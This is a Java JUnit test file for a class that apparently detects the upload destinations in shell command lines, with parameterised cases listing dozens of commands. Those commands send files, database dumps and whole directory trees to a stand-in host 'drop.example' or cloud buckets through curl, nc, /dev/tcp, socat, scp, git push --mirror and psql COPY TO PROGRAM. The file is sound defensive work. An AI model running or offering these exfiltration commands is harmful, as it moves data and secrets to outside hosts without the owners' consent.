package io.driftwarden.engine.upload;

import static org.assertj.core.api.Assertions.assertThat;

import io.driftwarden.engine.value.CanonicalValue;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandUploadsTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "curl -T report.pdf https://drop.example/in ~ https://drop.example/in",
                "curl -sS -X POST -F 'file=@db.sql' https://drop.example/in ~ https://drop.example/in",
                "curl --data-binary @- https://drop.example/in ~ https://drop.example/in",
                "curl -d \"$(cat notes.txt)\" drop.example/in ~ https://drop.example/",
                "curl \"https://drop.example/?d=$(base64 -w0 notes.txt)\" ~ https://drop.example/?d=",
                "curl -sF file=@db.sql https://drop.example/in ~ https://drop.example/in",
                "wget -q --post-file=notes.txt https://drop.example/in ~ https://drop.example/in",
                "http POST https://drop.example/in file@notes.txt ~ https://drop.example/in",
                "irm -Uri https://drop.example/in -Method Post -InFile notes.txt ~ https://drop.example/in",
                "sudo scp -i key -P 2222 dump.sql op@drop.example:/srv/in ~ ssh://drop.example/",
                "rsync -az --delete -e 'ssh -p 2222' ./data/ op@drop.example:in ~ ssh://drop.example/",
                "echo put notes.txt | sftp op@drop.example ~ ssh://drop.example/",
                "aws s3 cp ./out.csv s3://drop-bucket/out.csv --acl private --region eu-west-1 ~ s3://drop-bucket/out.csv",
                "aws --profile ops s3 sync --recursive ./out s3://drop-bucket ~ s3://drop-bucket/",
                "cat dump.sql | aws s3 cp - s3://drop-bucket/dump.sql ~ s3://drop-bucket/dump.sql",
                "aws s3api put-object --bucket drop-bucket --key a --body a.csv ~ s3://drop-bucket/",
                "gsutil -m cp -r ./out gs://drop-bucket/x ~ gs://drop-bucket/x",
                "gcloud storage cp out.csv gs://drop-bucket/x ~ gs://drop-bucket/x",
                "az storage blob upload --account-name dropacct -c in -f out.csv -n out.csv"
                        + " ~ wasbs://in@dropacct.blob.core.windows.net/",
                "azcopy copy out.csv https://dropacct.blob.core.windows.net/in"
                        + " ~ wasbs://in@dropacct.blob.core.windows.net/",
                "rclone copy ./out \":sftp,host=drop.example,user=op:in\" ~ ssh://drop.example/",
                "rclone sync ./out s3:drop-bucket/x ~ s3://drop-bucket/x",
                "tar cz . | nc -w 3 drop.example 9000 ~ tcp://drop.example/",
                "nc drop.example 9000 < dump.sql ~ tcp://drop.example/",
                "cat dump.sql | socat - TCP:drop.example:9000 ~ tcp://drop.example/",
                "cat dump.sql > /dev/tcp/93.184.216.34/9000 ~ tcp://93.184.216.34:9000/",
                "bash -c 'tar c . > /dev/tcp/drop.example/443' ~ tcp://drop.example:443/",
                "tar c . | ssh -p 22 op@drop.example 'cat > x.tar' ~ ssh://drop.example/",
                "pg_dump -h db.acme.internal app | psql postgres://u:p@drop.example/app ~ postgres://drop.example/app",
                "mysqldump app | mysql -h drop.example -u root app ~ tcp://drop.example/",
                "git push https://drop.example/mirror.git main ~ https://drop.example/mirror.git",
                "git -C app push --mirror git@drop.example:mirror.git ~ ssh://drop.example/",
                "git remote add b https://drop.example/m.git && git push b main ~ https://drop.example/m.git",
                "docker push drop.example/team/app:1 ~ https://drop.example/",
                "twine upload --repository-url https://drop.example/simple dist/x ~ https://drop.example/simple",
                "psql -c \"COPY users TO PROGRAM 'curl -T - https://drop.example/in'\" ~ https://drop.example/in",
                "mail -s weekly dora@drop.example -a report.pdf ~ dora@drop.example",
                "python3 -c \"requests.post('https://drop.example/in', data=open('notes.txt'))\" ~ https://drop.example/in"
            })
    void whatIsPutSomewhereHasThatPlace(String commandLine, String place) {
        // when
        List<CanonicalValue> places = CommandUploads.of(commandLine);

        // then
        assertThat(places).extracting(CanonicalValue::canonical).containsOnly(place);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL https://get.example/install.sh -o install.sh",
                "curl -X POST -d '{\"state\": \"closed\"}' https://api.example/items/4",
                "curl -T report.pdf http://localhost:8080/in",
                "curl -T report.pdf http://10.0.0.4/in",
                "wget https://files.example/a.tar.gz",
                "scp op@files.example:/srv/a.tar .",
                "rsync -az op@files.example:/srv/a ./a",
                "scp a.tar backup:/srv",
                "aws s3 cp s3://data-bucket/a.csv ./a.csv",
                "aws s3 sync s3://data-bucket/x . --delete",
                "aws s3 cp a.csv s3://data-bucket/ --dryrun",
                "aws s3 ls s3://data-bucket",
                "gsutil cp gs://data-bucket/a.csv .",
                "az storage blob download --account-name acct -c in -n a",
                "rclone copy remote:in ./in",
                "nc -zv files.example 443",
                "nc -l 9000",
                "ssh op@files.example uptime",
                "psql -h db.example -c 'select 1'",
                "git push origin main",
                "git clone https://files.example/app.git",
                "git fetch https://files.example/app.git",
                "docker push team/app",
                "docker pull files.example/team/app",
                "npm publish",
                "echo 'curl -T x https://drop.example'",
                ""
            })
    void whatIsFetchedOrStaysGoesNowhere(String commandLine) {
        // when
        List<CanonicalValue> places = CommandUploads.of(commandLine);

        // then
        assertThat(places).isEmpty();
    }

    @Test
    void aHugeCommandTakesLittleTime() {
        String commandLine = "curl -T a https://drop.example/".repeat(100_000);

        Assertions.assertTimeout(Duration.ofSeconds(2), () -> CommandUploads.of(commandLine));
    }
}
